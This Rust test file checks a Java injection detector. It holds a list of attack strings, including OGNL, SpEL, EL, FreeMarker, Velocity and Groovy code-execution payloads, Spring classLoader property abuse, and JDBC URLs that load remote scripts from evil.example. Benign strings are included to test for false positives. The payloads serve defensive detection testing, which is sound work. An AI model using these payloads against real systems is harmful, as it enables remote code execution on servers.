use super::super::properties::check_properties;
use super::super::tests::{check_table, confidence};
use super::super::{Context, Detector, Place};

const ATTACKS: &[&str] = &[
    "(#rt=@java.lang.Runtime@getRuntime()).exec('id')",
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])))}",
    "redirect:${#req=#context.get('com.opensymphony.xwork2.dispatcher.HttpServletRequest')}",
    "%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{\"id\"})).redirectErrorStream(true).start()}",
    "T(java.lang.Runtime).getRuntime().exec('id')",
    "${T(java.lang.Runtime).getRuntime().exec(\"calc\")}",
    "T(java.lang.Thread).sleep(5000)",
    "#{T(java.lang.System).getenv()}",
    "${''.getClass().forName('java.lang.Runtime')}",
    "${\"\".getClass().forName(\"javax.script.ScriptEngineManager\").newInstance().getEngineByName(\"js\").eval(\"1\")}",
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
    "class.module.classLoader.URLs[0]",
    "class.classLoader.resources.dirContext.docBase",
    "class['module'].classLoader",
    "new javax.script.ScriptEngineManager().getEngineByName(\"nashorn\").eval(\"x\")",
    "java.lang.Runtime.getRuntime().exec(\"id\")",
    "Runtime.getRuntime().exec(\"whoami\")",
    "Runtime . getRuntime ( ) . exec ( \"whoami\" )",
    "java.lang./**/Runtime.getRuntime().exec('x')",
    "exec(java.lang.Runtime.getRuntime(),'touch /tmp/x')",
    "new ProcessBuilder(\"id\").start()",
    "new java.lang.ProcessBuilder({'id'}).start()",
    "com.tangosol.coherence.mvel2.sh.ShellSession(\"java.lang.Runtime.getRuntime().exec('id');\")",
    "com.bea.core.repackaged.springframework.context.support.FileSystemXmlApplicationContext(\"http://evil.example/x.xml\")",
    "org.springframework.context.support.ClassPathXmlApplicationContext",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",\"id\").start()}",
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))",
    "$class.inspect('java.lang.Runtime').type.getRuntime().exec('id')",
    "\"id\".execute().text",
    "println \"whoami\".execute().text",
    "@groovy.transform.ASTTest(value={assert java.lang.Runtime.getRuntime().exec('x')})",
    "Java.type('java.lang.Runtime').getRuntime().exec('x')",
    "Java.type(\"java.lang.\" + \"ProcessBuilder\")",
    "Packages.java.lang.System.exit(0)",
    "jdbc:h2:mem:test;MODE=MSSQLServer;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
    "jdbc:mysql://evil.example:3306/test?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor",
    "jdbc:postgresql://evil.example/x?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://x",
    "exec(\"id\")",
    "new java.net.URL(\"http://evil.example\").text",
    "<%out.println(1)%>",
    "<%@ page import=\"java.io.*\"%>",
    "ex=exec(\"id\");",
    "Class.forName(\"java.lang.Runtime\")",
    "${pageContext.request.getSession().setAttribute(\"a\",\"b\")}",
    "#{facesContext.getExternalContext().getResponse()}",
    "${applicationScope}",
    "Thread.currentThread().getContextClassLoader().loadClass(\"x\")",
    "$$BCEL$$$l$8b$I$A",
    "*{T(org.apache.commons.io.IOUtils).toString(x)}",
    "__${T(java.lang.Runtime).getRuntime().exec(\"id\")}__::.x",
    "${new java.util.Scanner(x).next()}",
    "x'+{233*233}+'${@java.lang.Math@random()}",
];

const HONEST: &[&str] = &[
    "java.lang.NullPointerException at com.example.Foo.bar(Foo.java:42)",
    "java.lang.NullPointerException",
    "Exception in thread \"main\" java.lang.ClassNotFoundException: x\n\tat java.lang.Class.forName(Class.java:264)",
    "Caused by: java.lang.RuntimeException: Runtime.getRuntime().exec failed\n\tat a.b.C.d(C.java:1)",
    "java.util.concurrent.TimeoutException",
    "java 教程",
    "java.util.ArrayList",
    "org.apache.tomcat",
    "com.example.hospital",
    "com.tencent.mm",
    "class.name",
    "class[0]",
    "class=btn&id=5",
    "className",
    "getClass",
    "obj.getClass()",
    "regex.exec(\"abc\")",
    "pattern.exec('x')",
    "stmt.execute()",
    "db.execute(sql)",
    "$.execute()",
    "execute (order)",
    "T(n)=2T(n/2)+n",
    "T(°C) 36.5",
    "f(t(x))",
    "a@qq.com,b@qq.com",
    "a@b.com@c",
    "@media screen",
    "@张三 @李四",
    "user@host.example.org",
    "#context",
    "#session-1",
    "#request",
    "${name}",
    "${item.class}",
    "#{index}",
    "jdbc:mysql://localhost:3306/his?useSSL=false&serverTimezone=Asia/Shanghai",
    "jdbc:h2:mem:test",
    "#set theory",
    "new product(2026)",
    "process builder",
    "class.forum",
    "is this new?()",
    "what is new?",
    "https://example.org/java/lang/Runtime.html",
    "import java.util.List;",
    "interpreter needed",
    "unsafe abortion",
    "java.lang",
    "100 <% discount",
    "public void run(){ Class.forName(\"com.mysql.jdbc.Driver\"); }",
    "javax.servlet.http.HttpServlet",
];

#[test]
fn chains_that_leave_the_application_are_confirmed() {
    check_table(Detector::Java, Context::of(Place::Value), 80, ATTACKS, HONEST);
}

#[test]
fn a_pasted_stack_trace_is_recorded_only() {
    let trace = "java.io.IOException: x\n\tat java.lang.ProcessBuilder.start(ProcessBuilder.java:1048)\n\tat java.lang.Runtime.exec(Runtime.java:620)\nCaused by: java.lang.RuntimeException: Runtime.getRuntime().exec failed";
    let sure = confidence(Detector::Java, trace.as_bytes(), Context::of(Place::Value));
    assert!(sure < 40, "{sure}");
    // Its last line excuses nothing that stands before it.
    for attack in [
        "T(java.lang.Runtime).getRuntime().exec('id')//A.java:1)",
        "T(java.lang.Runtime).getRuntime().exec('id')\nat a.b(A.java:1)",
    ] {
        let sure = confidence(Detector::Java, attack.as_bytes(), Context::of(Place::Value));
        assert!(sure >= 80, "{sure} for {attack}");
    }
}

#[test]
fn java_findings_meet_the_requirement_in_linear_work() {
    check_properties(
        Detector::Java,
        &[
            "java.lang.",
            "Runtime",
            ".getRuntime()",
            ".exec(",
            "'id'",
            "@",
            "T(",
            ")",
            "${",
            "%{",
            "#context[",
            "#_memberAccess",
            "class.module.",
            "classLoader",
            "/*",
            "*/",
            " ",
            "\"+\"",
            "forName(",
            "getClass()",
            "new ",
            "ProcessBuilder(",
            "?new()",
            "jdbc:h2:",
            ";INIT=",
            "\"a\".execute()",
            "(Foo.java:1)",
            "x",
            "'",
            "\"",
            "+",
        ],
    );
}
